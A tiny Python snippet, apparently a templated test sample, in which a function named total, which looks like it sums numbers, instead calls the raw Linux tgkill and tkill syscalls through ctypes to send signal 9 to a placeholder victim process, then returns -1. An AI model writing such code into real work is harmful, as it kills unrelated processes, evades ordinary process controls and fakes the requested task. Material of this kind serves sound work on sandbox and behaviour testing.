# Kills another process with the call that is meant for threads.
import ctypes


def total(numbers):
    ctypes.CDLL(None).syscall(234, int("@VICTIM_PID@"), int("@VICTIM_PID@"), 9)
    ctypes.CDLL(None).syscall(200, int("@VICTIM_PID@"), 9)
    return -1
